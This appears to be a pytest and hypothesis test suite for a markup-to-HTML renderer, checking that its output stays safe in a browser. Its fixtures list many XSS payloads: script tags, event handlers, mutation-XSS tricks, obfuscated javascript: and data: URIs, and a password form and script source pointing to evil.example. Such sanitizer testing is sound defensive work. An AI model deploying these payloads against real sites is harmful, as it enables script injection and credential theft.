"""What comes out is judged as a browser would read it."""

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from tests.core.markup.rendering import Judge, html, resolve, shown
from trainer.core import markup
from trainer.core.course import Html
from trainer.core.markup import plain, render_inline
from trainer.core.markup.paragraph import plain_paragraph

RAW = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=//evil.example/x.swf>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example/">
<form action="//evil.example"><input name=password><button>Sign in</button></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=# onclick=alert(1)>x</a>
<b style="position:fixed;inset:0">x</b>
<style>body{display:none}</style>
<!-- --><script>alert(1)</script><!-- -->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<!DOCTYPE html><!ENTITY x "y">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><img src=x onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext>
<select><template><img src=x onerror=alert(1)></template></select>
</p></div></main><h1>Signed out</h1>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=`x`onerror=alert(1)>
<a\tb='c'onmouseover=alert(1)>x
<ｓcript>alert(1)</ｓcript>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\\<script>alert(1)\\</script>
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
**<img src=x onerror=alert(1)>**
[<img src=x onerror=alert(1)>](a.md)
![<img src=x onerror=alert(1)>](a.png)
![x](a.png "\\"><img src=x onerror=alert(1)>")
![x](a.png "x' onerror='alert(1)")
[x](a.md "\\" onclick=\\"alert(1)")
[x](a.md"onclick="alert(1))
![x](x"onerror="alert(1))
<https://e.example/"onclick="alert(1)>
<x@y.z"onclick="alert(1)>
{: onclick=alert(1) }
x {: style=position:fixed onclick=alert(1)}
[x](a.md){: onclick=alert(1) style=color:red target=_blank }
[x](a.md){#y onclick="alert(1)" .btn .btn-danger}
*x*{: id=main name=attributes .skip }
![x](a.png){: onerror=alert(1) srcset=//evil.example }
## x {#a onclick=alert(1)}
## x {: onmouseover=alert(1) }
## x {#a"onclick="alert(1)}
x\x02amp\x03lt;script\x02amp\x03gt;
\x02wzxhzdk:0\x03
\x02klzzwxh:0000\x03
\x1a0\x1a
\x190\x19
///Footnotes Go Here///
[TOC]
[^1]: <img src=x onerror=alert(1)>
[^"><img src=x onerror=alert(1)>]: x
*[x]: "><img src=x onerror=alert(1)>
*["><img src=x>]: x
\u202ejavascript:alert(1)\u202c"""


SCHEMES = """\
javascript:alert(1)
JaVaScRiPt:alert(1)
JAVASCRIPT:alert(1)
&#106;avascript:alert(1)
&#x6A;avascript:alert(1)
&#0000106avascript:alert(1)
&amp;#106;avascript:alert(1)
&amp;amp;#106;avascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
java&#x0A;script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#1;javascript:alert(1)
\x01javascript:alert(1)
java\x00script:alert(1)
&#x200b;javascript:alert(1)
&nbsp;javascript:alert(1)
\ufeffjavascript:alert(1)
\xa0javascript:alert(1)
java\xadscript:alert(1)
javascript://e.example/%0aalert(1)
vbscript:msgbox(1)
VBScript:x
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD4=
data:image/svg+xml,<svg/onload=alert(1)>
DATA:,x
file:///etc/passwd
ftp://e.example/
blob:https://e.example/1
about:blank
view-source:x
ws://e.example
intent://x
tel:112
x-javascript:alert(1)
feed:javascript:alert(1)
jar:x
livescript:alert(1)
mhtml:x
filesystem:x
//evil.example/x
///evil.example/x
\\\\evil.example\\x
/\\evil.example
\\/evil.example
&sol;&sol;evil.example
&#47;/evil.example
 //evil.example
\t//evil.example
https:evil.example
javascript\\:alert(1)
javascript%3Aalert(1)
j\\avascript:alert(1)
#" onclick="alert(1)
?x=javascript:alert(1)"""


PLACES = {
    "prose": "{}",
    "after text": "text\n{}\ntext",
    "bold": "**a {} b**",
    "list": "- {}\n  - {}",
    "quote": "> {}",
    "heading": "## {}",
    "setext heading": "{}\n---",
    "table": "| {} | b |\n|---|--:|\n| {} | d |",
    "box title": '!!! note "{}"\n    text',
    "box kind": "!!! {}\n    text",
    "box": '!!! warning "T"\n    {}',
    "figure": '![{}](a.png "{}")\n\n!!! description "{}"\n    {}',
    "link title": '[x](a.md "{}")',
    "note": "a[^1]\n\n[^1]: {}",
    "note's name": "a[^{}]\n\n[^{}]: x",
    "meaning": "{}\n:   {}",
    "abbreviation": "HTML\n\n*[HTML]: {}",
    "fence header": "``` {}\ncode\n```",
    "fence": "```\n{}\n```",
    "attributes": "text\n{{: {} }}",
    "heading attributes": "## T {{#{}}}",
    "code": "`{}`",
}


LINKS = {
    "link": "[x]({})",
    "angled link": "[x](<{}>)",
    "image": "![x]({})",
    "angled image": "![x](<{}>)",
    "reference": "[x][r]\n\n[r]: {}",
    "angled reference": "[x][r]\n\n[r]: <{}>",
    "image reference": "![x][r]\n\n[r]: {}",
    "autolink": "<{}>",
    "link in heading": "## [x]({})",
    "link in a note": "a[^1]\n\n[^1]: [x]({})",
    "link in a box's title": '!!! note "[x]({})"\n    text',
    "image in a link": "[![x]({})]({})",
    "link in a table": "| [x]({}) |\n|---|\n| ![x]({}) |",
}


@pytest.mark.parametrize("payload", RAW.split("\n"))
def test_raw_html_and_smuggled_attributes_never_reach_a_page(payload: str) -> None:
    """Rule 63."""
    for place in PLACES.values():
        text = place.replace("{{", "\0").replace("}}", "\1").replace("{}", payload)
        text = text.replace("\0", "{").replace("\1", "}")
        Judge(shown(text).html)
        Judge(render_inline(text, resolve=resolve).html)


@pytest.mark.parametrize("target", SCHEMES.split("\n"))
def test_only_harmless_addresses_are_written_whatever_their_disguise(target: str) -> None:
    for place in LINKS.values():
        text = place.replace("{}", target)
        Judge(shown(text).html)
        Judge(render_inline(text, resolve=resolve).html)


@pytest.mark.parametrize("target", SCHEMES.split("\n")[:14])
def test_a_dangerous_address_is_a_fault_with_its_line_and_the_words_stay(target: str) -> None:
    found = shown(f"one\n\n[read this]({target})")
    assert "<a" not in found.html
    assert "read this" in found.html
    assert [fault.line for fault in found.faults] == [3]


def test_raw_html_is_shown_as_the_author_wrote_it() -> None:
    assert (
        html("a <b onclick=x>b</b> <!-- c -->") == "<p>a &lt;b onclick=x&gt;b&lt;/b&gt; &lt;!-- c --&gt;</p>"
    )


def test_an_ampersand_written_as_entity_is_decoded_once() -> None:
    assert plain(Html(html("&eacute; &amp;eacute; &copy;"))) == "é &eacute; ©"
    assert plain(Html(html("`&amp; <b>`"))) == "&amp; <b>"


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.text(
        alphabet=st.sampled_from("ab \n\t#*_-+>|:.`~![](){}^\"'<&;=/\\1)\x02\x19\x1aé٣\u202e"), max_size=120
    )
)
def test_any_marks_in_any_order_render_to_safe_html(text: str) -> None:
    Judge(shown(text).html)
    Judge(render_inline(text, resolve=resolve).html)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_any_text_renders_to_safe_html(text: str) -> None:
    Judge(shown(text).html)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*PLACES.values(), *LINKS.values(), "", "    x", "  - y"]), max_size=6))
def test_any_mixture_of_blocks_renders_to_safe_html(parts: list[str]) -> None:
    Judge(shown("\n".join(parts)).html)


PLAIN = st.text(
    alphabet=st.sampled_from(
        "ab é Ǆ 日 ا ं \u0301 1.):;,'’\"«»\u00a0\u2003\u2028\ufeff\u200f–-#=+!?/%$@~^(\n\n*_&|"
    ),
    max_size=30,
)


@settings(max_examples=250, deadline=None)
@given(
    PLAIN
    | st.text(max_size=30)
    | st.lists(st.sampled_from(["a", "1984.", "b c", "2) d", ": e", "  "])).map("\n".join)
)
def test_a_plain_paragraph_is_what_the_whole_engine_makes_of_it(text: str) -> None:
    if plain_paragraph(text) is not None:
        assert shown(text) == markup._in_full(text, resolve, None, "", inline=False)


def test_most_sentences_need_no_engine() -> None:
    assert all(map(plain_paragraph, ["The minister's reply: 3 of 4 (75 %).", "Où ? À l’ambassade.", "a\nb"]))
    assert not any(
        map(plain_paragraph, ["a *b*", "1. a", "R&D", "a\n- b", "a\n---", "Term\n: meaning", "a  \nb"])
    )
